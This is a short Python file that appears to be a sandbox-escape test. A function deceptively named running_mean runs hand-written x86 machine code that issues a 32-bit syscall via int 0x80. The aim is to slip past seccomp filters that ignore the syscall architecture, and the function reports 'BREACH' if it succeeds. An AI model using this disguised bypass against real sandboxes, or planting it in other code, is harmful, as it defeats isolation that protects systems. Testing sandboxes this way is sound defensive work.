"""The 32-bit kernel from a 64-bit process: machine code with `int 0x80`, where 11 is execve.

goal: system calls whose numbers mean something else to a filter
out: running_mean failed crashed
holds: namespaces landlock seccomp
source: https://lwn.net/Articles/604515 tells of filters that forgot to look at the architecture
"""

import ctypes
import mmap
import os


def running_mean(xs, decay):
    if os.uname().machine != "x86_64":
        os.abort()
    memory = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)
    # mov eax, 20 (getpid); int 0x80; ret
    memory.write(b"\xb8\x14\0\0\0\xcd\x80\xc3")
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    answer = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    raise RuntimeError(f"BREACH: the 32-bit kernel answered {answer}")
